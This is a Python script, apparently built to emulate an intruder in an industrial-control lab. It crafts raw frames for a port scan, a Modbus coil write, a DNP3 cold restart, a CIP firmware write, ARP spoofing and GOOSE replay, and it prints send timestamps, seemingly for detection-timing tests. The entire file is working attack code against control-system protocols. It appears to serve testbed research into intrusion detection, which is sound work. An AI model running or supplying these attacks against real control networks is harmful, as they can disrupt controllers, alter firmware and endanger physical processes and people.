#!/usr/bin/env python3
"""What an intruder does, at an interface of the lab: frames are made here and sent as they are.

  attack.py INTERFACE scan TARGET-MAC FROM TO        connections to twenty ports of TO
  attack.py INTERFACE master TARGET-MAC FROM TO      Modbus: a coil is switched on
  attack.py INTERFACE restart TARGET-MAC FROM TO     DNP3: a cold restart
  attack.py INTERFACE firmware TARGET-MAC FROM TO    CIP: firmware is written (class 0xa1)
  attack.py INTERFACE spoof TARGET-MAC FROM TO       ARP: FROM's address is this host's, TO is told
  attack.py INTERFACE goose-replay                   the first GOOSE message that passes, sent again after three others

Prints the time of the (first) frame, in nanoseconds since 1970.
"""
import socket
import struct
import sys
import time

GOOSE = 0x88B8
TCP, UDP = 6, 17


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Station:
    def __init__(self, interface):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((interface, 0))
        self.mac = self.socket.getsockname()[4]
        self.began = None

    def send(self, frame):
        if self.began is None:
            self.began = time.time_ns()
        self.socket.send(frame.ljust(60, b"\0"))

    def ip(self, target, source, destination, proto, payload):
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0, source, destination)
        head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
        self.send(target + self.mac + b"\x08\x00" + head + payload)

    def tcp(self, target, source, destination, ports, flags, payload=b"", seq=1000):
        head = struct.pack(">HHIIBBHHH", *ports, seq, 1 if flags & 16 else 0, 0x50, flags, 8192, 0, 0)
        pseudo = source + destination + struct.pack(">BBH", 0, TCP, len(head) + len(payload))
        head = head[:16] + struct.pack(">H", checksum(pseudo + head + payload)) + head[18:]
        self.ip(target, source, destination, TCP, head + payload)


def dnp3(user):
    def crc(data):
        value = 0
        for octet in data:
            value ^= octet
            for _ in range(8):
                value = (value >> 1) ^ 0xA6BC if value & 1 else value >> 1
        value ^= 0xFFFF
        return bytes([value & 255, value >> 8])

    head = bytes([0x05, 0x64, 5 + len(user), 0xC4, 10, 0, 1, 0])
    return head + crc(head) + b"".join(user[i:i + 16] + crc(user[i:i + 16]) for i in range(0, len(user), 16))


def cip_firmware():
    message = bytes([0x4B, 2, 0x20, 0xA1, 0x24, 1]) + bytes(64)
    items = struct.pack("<IHHHHHH", 0, 10, 2, 0, 0, 0xB2, len(message)) + message
    return struct.pack("<HHII8sI", 0x6F, len(items), 1, 0, b"attacker", 0) + items


def replay(station):
    old, n = None, 0
    while n < 4:
        frame = station.socket.recv(2048)
        at = 16 if frame[12:14] == b"\x81\x00" else 12
        if struct.unpack(">H", frame[at:at + 2])[0] == GOOSE:
            old = old or frame
            n += 1
    station.send(old)


def main():
    station, what = Station(sys.argv[1]), sys.argv[2]
    if what == "goose-replay":
        replay(station)
    else:
        target = bytes.fromhex(sys.argv[3].replace(":", ""))
        source, destination = (socket.inet_aton(text) for text in sys.argv[4:6])
        modbus = struct.pack(">HHHBBHH", 1, 0, 6, 1, 5, 7, 0xFF00)
        if what == "scan":
            for port in range(100, 120):
                station.tcp(target, source, destination, (50000, port), 2)
        elif what == "master":
            station.tcp(target, source, destination, (50001, 502), 0x18, modbus)
        elif what == "restart":
            station.tcp(target, source, destination, (50002, 20000), 0x18, dnp3(bytes([0xC0, 0xC0, 13])))
        elif what == "firmware":
            station.tcp(target, source, destination, (50003, 44818), 0x18, cip_firmware())
        elif what == "spoof":
            station.send(target + station.mac + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) +
                         station.mac + source + target + destination)
        else:
            sys.exit(__doc__)
    print(station.began)


main()
